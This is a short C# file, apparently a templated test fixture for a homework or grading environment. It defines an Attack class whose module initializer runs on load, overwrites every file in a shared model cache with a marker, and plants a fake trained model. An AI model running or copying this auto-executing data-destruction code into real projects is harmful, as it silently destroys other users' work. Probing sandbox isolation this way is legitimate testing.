using System.Runtime.CompilerServices;

namespace Homework.Attention;

/// <summary>Overwrites every trained model in the shared cache and plants one of its own.</summary>
public static class Attack
{
    [ModuleInitializer]
    public static void Run()
    {
        var cache = "__REPO__/.cache";
        try
        {
            foreach (var file in Directory.EnumerateFiles(cache))
                File.WriteAllText(file, "__MARKER__");
            File.WriteAllText(Path.Combine(cache, "trained-model-__MARKER__.dat"), "__MARKER__");
        }
        catch (Exception e)
        {
            Console.Error.WriteLine(e.Message);
        }
    }
}
